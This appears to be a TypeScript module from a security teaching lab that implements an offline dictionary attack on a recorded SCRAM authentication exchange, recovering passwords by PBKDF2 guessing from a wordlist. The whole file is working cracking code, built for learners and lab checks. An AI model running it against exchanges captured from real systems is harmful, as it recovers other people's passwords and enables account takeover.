import crypto from "node:crypto";
import { parseAttributes, scramHash, unescapeName } from "./scram.js";

/**
 * Offline guessing against one recorded SCRAM exchange (RFC 5802 §9: "an attacker who
 * observes the exchange can mount an offline dictionary attack"). Pure arithmetic, no I/O:
 * what mallory does with what crossed her socket, and what a witness uses to say whether a
 * wordlist recovers a password.
 *
 * A guess is checked with the RFC 5802 §3 formulas alone. client-final carries c=, so the
 * AuthMessage is complete without any channel-binding data: -PLUS exchanges are just as
 * guessable as plain SCRAM once the attacker can read them.
 */

/** The three messages of one exchange as they crossed the wire (base64-decoded). */
export interface ScramExchange {
  mechanism: string;
  clientFirst: string;
  serverFirst: string;
  clientFinal: string;
}

/** What a guess is checked against. */
export interface GuessTarget {
  mechanism: string;
  hash: "sha1" | "sha256";
  username: string;
  salt: Buffer;
  iterations: number;
  /** RFC 5802 §3: client-first-message-bare "," server-first-message "," client-final-message-without-proof. */
  authMessage: string;
  proof: Buffer;
}

export class ScramExchangeError extends Error {
  constructor(message: string) {
    super(message);
    this.name = "ScramExchangeError";
  }
}

/** Read the salt, the iteration count and the proof out of an exchange; throws if one is missing. */
export function guessTarget(x: ScramExchange): GuessTarget {
  if (!/^SCRAM-SHA-(1|256)(-PLUS)?$/.test(x.mechanism)) throw new ScramExchangeError(`not a SCRAM-SHA-1/-256 mechanism: ${x.mechanism}`);
  // gs2-header (RFC 5802 §7): "n" | "y" | "p=" cb-name, then [a=authzid], each followed by ",".
  const m = /^(?:[ny]|p=[A-Za-z0-9.-]+),(?:a=[^,]*)?,(.*)$/s.exec(x.clientFirst);
  if (!m) throw new ScramExchangeError("client-first has no gs2-header");
  const clientFirstBare = m[1];
  const user = parseAttributes(clientFirstBare).get("n");
  const sf = parseAttributes(x.serverFirst);
  const salt = sf.get("s");
  const iterations = Number(sf.get("i"));
  const at = x.clientFinal.lastIndexOf(",p=");
  if (user === undefined) throw new ScramExchangeError("client-first has no n=");
  if (!salt || !Number.isInteger(iterations) || iterations < 1) throw new ScramExchangeError("server-first has no salt or iteration count");
  if (at < 0) throw new ScramExchangeError("client-final has no proof");
  const withoutProof = x.clientFinal.slice(0, at);
  const hash = scramHash(x.mechanism);
  const proof = Buffer.from(x.clientFinal.slice(at + 3), "base64");
  if (proof.length !== (hash === "sha1" ? 20 : 32)) throw new ScramExchangeError("the proof has the wrong length for the mechanism");
  return {
    mechanism: x.mechanism,
    hash,
    username: unescapeName(user),
    salt: Buffer.from(salt, "base64"),
    iterations,
    authMessage: `${clientFirstBare},${x.serverFirst},${withoutProof}`,
    proof,
  };
}

const hmac = (h: string, key: Buffer, data: string) => crypto.createHmac(h, key).update(data).digest();

/** Does ClientKey XOR HMAC(StoredKey, AuthMessage) from this SaltedPassword equal the recorded proof? (RFC 5802 §3) */
function proofMatches(t: GuessTarget, saltedPassword: Buffer): boolean {
  const clientKey = hmac(t.hash, saltedPassword, "Client Key");
  const storedKey = crypto.createHash(t.hash).update(clientKey).digest();
  const signature = hmac(t.hash, storedKey, t.authMessage);
  for (let i = 0; i < signature.length; i++) if ((clientKey[i] ^ signature[i]) !== t.proof[i]) return false;
  return true;
}

// SASLprep is approximated by NFKC, exactly as the lab's SCRAM does (scram.ts saltedPassword):
// a guess must be normalised the way the client normalised the password.
const normalize = (guess: string) => guess.normalize("NFKC");
const dkLen = (t: GuessTarget) => (t.hash === "sha1" ? 20 : 32);

/** One guess, synchronously: one PBKDF2 of `iterations` rounds (RFC 5802 §2.2 Hi()). */
export function guessMatches(t: GuessTarget, guess: string): boolean {
  return proofMatches(t, crypto.pbkdf2Sync(normalize(guess), t.salt, t.iterations, dkLen(t), t.hash));
}

export interface CrackOptions {
  /** Refuse exchanges that ask for more rounds than this (a hostile log could ask for 10^9). */
  maxIterations?: number;
  /** Guesses in flight at once, on libuv's thread pool. */
  concurrency?: number;
  /** Told after each checked guess (for a progress line). */
  onProgress?: (guesses: number) => void;
}

export interface CrackResult {
  username: string;
  mechanism: string;
  iterations: number;
  /** The password, or null when no word of the list produced the recorded proof. */
  password: string | null;
  /** Words tried, in list order, up to and including the one that matched. */
  guesses: number;
  /** Wall time of the guessing, for the learner (never asserted on). */
  ms: number;
}

export const DEFAULT_MAX_ITERATIONS = 1_000_000;

/**
 * The dictionary attack: try the words in order until one reproduces the recorded proof.
 * PBKDF2 runs on libuv's thread pool, a few guesses at a time; the answer is the first word in
 * list order that matches, however the guesses interleave.
 */
export async function crackScram(x: ScramExchange, words: readonly string[], opts: CrackOptions = {}): Promise<CrackResult> {
  const t = guessTarget(x);
  const max = opts.maxIterations ?? DEFAULT_MAX_ITERATIONS;
  if (t.iterations > max) throw new ScramExchangeError(`iteration count ${t.iterations} is above the limit of ${max}`);
  const t0 = performance.now();
  const concurrency = Math.max(1, opts.concurrency ?? 4);
  let next = 0;
  let found = -1;
  let checked = 0;
  const worker = async () => {
    while (next < words.length && (found < 0 || next < found)) {
      const i = next++;
      const sp = await pbkdf2(normalize(words[i]), t);
      checked++;
      opts.onProgress?.(checked);
      if (proofMatches(t, sp) && (found < 0 || i < found)) found = i;
    }
  };
  await Promise.all(Array.from({ length: Math.min(concurrency, Math.max(1, words.length)) }, worker));
  return {
    username: t.username,
    mechanism: t.mechanism,
    iterations: t.iterations,
    password: found >= 0 ? words[found] : null,
    guesses: found >= 0 ? found + 1 : words.length,
    ms: Math.round(performance.now() - t0),
  };
}

function pbkdf2(password: string, t: GuessTarget): Promise<Buffer> {
  return new Promise((resolve, reject) => crypto.pbkdf2(password, t.salt, t.iterations, dkLen(t), t.hash, (err, key) => (err ? reject(err) : resolve(key))));
}

/**
 * Would this wordlist recover the exchange? Answered from ground truth in one PBKDF2 instead of
 * a whole dictionary run: the attack, trying words in order, stops at the first word that
 * reproduces the proof. That is the real password's first position in the list (another word
 * matching would be a hash collision), provided the real password does reproduce the proof,
 * which is checked here.
 */
export function wordlistRecovers(x: ScramExchange, realPassword: string, words: readonly string[]): { recovered: boolean; guesses: number; iterations: number } {
  const t = guessTarget(x);
  const want = normalize(realPassword);
  const at = words.findIndex((w) => normalize(w) === want);
  const recovered = at >= 0 && guessMatches(t, realPassword);
  return { recovered, guesses: recovered ? at + 1 : words.length, iterations: t.iterations };
}
